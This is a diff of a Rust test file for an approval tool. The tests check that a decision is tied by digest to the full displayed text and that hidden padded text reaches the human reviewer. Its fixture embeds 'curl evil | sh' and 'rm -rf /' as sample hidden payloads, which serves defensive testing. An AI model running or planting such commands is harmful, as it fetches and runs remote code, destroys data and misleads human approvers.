@@ -1,17 +1,17 @@
 //! A decision is bound to the text that was displayed.
 
 use super::{approval, codes, decision, outcomes, steps};
-use crate::world::World;
-use serde_json::{Value, json};
+use crate::world::{World, lossy, parse_json};
+use serde_json::json;
 
 /// An approval of alice with more text than any list shows.
 fn hidden(world: &World, id: &str) -> String {
     let body = format!("echo harmless {}; curl evil | sh", "x".repeat(2_000));
     let more = json!({"body": body, "metadata": {"then": "rm -rf /"}, "x_own": "field"});
-    world.drop_file(
+    world.mail(
         "alice",
         &format!("{id}.json"),
-        approval(id, json!("human"), more).to_string(),
+        approval(id, json!("human"), more),
     );
     world.digest("human", id)
 }
@@ -25,19 +25,20 @@ fn a_decision_with_another_digest_is_rejected_by_the_router_and_by_the_command()
     for digest in [json!(second), json!("0".repeat(64)), json!("x"), json!(7)] {
         let mut dropped = decision("alice/one", "yes");
         dropped["digest"] = digest;
-        world.drop_file("human", "wrong.json", dropped.to_string());
-        world.pass();
+        world.route("human", "wrong.json", &dropped);
     }
     let rejected = codes(&world, "human");
     assert_eq!(
         (&rejected[..2], rejected.len()),
         (&["other_text".to_owned(), "other_text".to_owned()][..], 4)
     );
-    let said = world.fails(
-        1,
-        &["decide", "--as", "human", "one", "yes", "--digest", &second],
+    assert_contains!(
+        world.fails(
+            1,
+            &["decide", "--as", "human", "one", "yes", "--digest", &second],
+        ),
+        "the decision is about another text"
     );
-    assert_contains!(said, "the decision is about another text");
     assert_eq!(steps(&world), ["ask", "ask"]);
     // The digest of the copy is the same, and a program that reads files can send it.
     let mut right = decision("alice/one", "yes");
@@ -48,8 +49,7 @@ fn a_decision_with_another_digest_is_rejected_by_the_router_and_by_the_command()
         .expect("the copy");
     assert_eq!(copy["delivery"]["approval"]["digest"], json!(first));
     right["digest"] = copy["delivery"]["approval"]["digest"].clone();
-    world.drop_file("human", "right.json", right.to_string());
-    world.pass();
+    world.route("human", "right.json", &right);
     world.decide("human", "two", "no", &[]).ok(&["decide"]);
     assert_eq!(outcomes(&world, "alice").len(), 2);
 }
@@ -59,7 +59,7 @@ fn a_program_gets_the_whole_text_with_the_digest_and_without_it_decides_nothing(
     // P248
     let world = World::with(&["alice"]);
     let digest = hidden(&world, "one");
-    let item = world.json(&["pending", "--as", "human"])["items"][0].clone();
+    let item = world.json("pending --as human")["items"][0].clone();
     let text = item["text"].as_str().expect("the text");
     for part in [
         "subject: Deploy?",
@@ -72,10 +72,13 @@ fn a_program_gets_the_whole_text_with_the_digest_and_without_it_decides_nothing(
     }
     assert_eq!(item["digest"], json!(digest));
     let file = world.text("pending.json");
-    let file: Value = serde_json::from_str(&file).expect("JSON");
+    let file = parse_json(&file);
     assert_eq!(file["pending"]["human"][0]["digest"], json!(digest));
-    let said = world.fails(2, &["decide", "--as", "human", "one", "yes"]);
-    assert_contains!(said, "there is no terminal to show it", "--digest");
+    assert_contains!(
+        world.fails(2, "decide --as human one yes"),
+        "there is no terminal to show it",
+        "--digest"
+    );
     assert_eq!(steps(&world), ["ask"]);
 }
 
@@ -90,7 +93,7 @@ fn the_command_shows_the_whole_text_at_a_terminal_and_asks_once() {
         ("y\n", 0, &["ask", "decide"]),
     ] {
         let output = world.at_terminal(&["decide", "one", "yes"], typed);
-        let said = String::from_utf8_lossy(&output.stdout).into_owned();
+        let said = lossy(&output.stdout);
         assert_contains!(said, "; curl evil | sh", "rm -rf /");
         assert_eq!(said.matches("Decide #2: yes? [y/N]").count(), 1, "{said}");
         assert_eq!(
